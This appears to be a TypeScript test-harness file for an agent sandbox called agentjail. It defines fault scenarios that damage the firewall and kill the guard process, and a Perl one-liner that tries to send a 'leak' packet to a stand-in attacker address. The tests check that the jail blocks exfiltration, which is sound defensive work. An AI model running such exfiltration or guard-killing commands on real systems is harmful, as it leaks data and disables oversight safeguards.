/** The lab as a host of the shared scenarios. Judges: the capture on the wire, the kernel's own lists. */
import { damage } from '../lab/firewall.js'
import type { Host } from '../scenarios/host.js'
import {
  cwd,
  gates,
  granted,
  jailed,
  joined,
  knocks,
  leftOf,
  toEvil,
  type Bench,
} from './faults-kit.js'

const shot = `use Socket; socket(my $s, AF_INET, SOCK_DGRAM, 0);
print send($s, 'leak', 0, pack_sockaddr_in(51820, inet_aton('203.0.113.66'))) ? "sent" : "refused: $!"`

export function labHost({ lab, prefix }: Bench, restless: readonly string[] = knocks): Host {
  return {
    prefix,
    restless,
    stateDir: '/run/agentjail',
    logDir: '/var/log/agentjail',
    sharedState: [],
    hasSecondLine: true,
    damages: [
      ['everything flushed', damage.everything],
      ['ours alone deleted', damage.ours],
      ['one element deleted', damage.lead],
      ['one rule of ours gone', damage.rule],
      ['the static deny deleted', damage.deny],
      ...(damage.off === undefined
        ? []
        : ([
            ['the static deny switched off', damage.off('agentjail')],
            ['ours switched off', damage.off('agentjail_uid')],
          ] as const)),
      [
        'the guard killed',
        ['sh', '-c', 'kill -9 $(sed "s/.*pid\\":\\([0-9]*\\).*/\\1/" /run/agentjail/guard.json)'],
      ],
    ],
    agentjail: (...args) => lab.agentjail(args, { cwd, timeout: 60_000 }),
    start: (...args) => {
      const started = lab.spawnAgentjail(args, { cwd, timeout: 900_000 })
      return { ...started, until: (pattern) => started.until(pattern, 60_000) }
    },
    run: (...argv) => lab.run(argv, { cwd, timeout: 60_000 }),
    write: (path, text) => {
      lab.writeFile(path, text)
      return Promise.resolve()
    },
    uid: async () => Number((await lab.run(['id', '-u', 'aj-faults'])).stdout),
    jailed: () => Promise.resolve(jailed(lab).length),
    gates: () => Promise.resolve(gates(lab).length),
    granted: async () => /path \/ok/.test((await granted(lab)).stdout),
    mayConnect: async (name) =>
      (await joined(lab, ['curl', '-sS', '--max-time', '10', `https://${name}/ok`])).code === 0,
    leaks: async (uid) => {
      const argv = ['setpriv', `--reuid=${uid}`, '--clear-groups', 'perl', '-e', shot]
      return (await lab.run(argv)).stdout.includes('sent')
    },
    leaked: () => lab.capture.packets(toEvil),
    left: async () => {
      const { files: all, cgroups, others } = await leftOf(lab)
      // userdel writes them anew, as they were.
      const files = all.filter((path) => !/^\/etc\/sub[ug]id$/.test(path))
      return {
        ...others,
        ...(files.length > 0 && { files }),
        ...(cgroups.length > 0 && { cgroups }),
      }
    },
  }
}
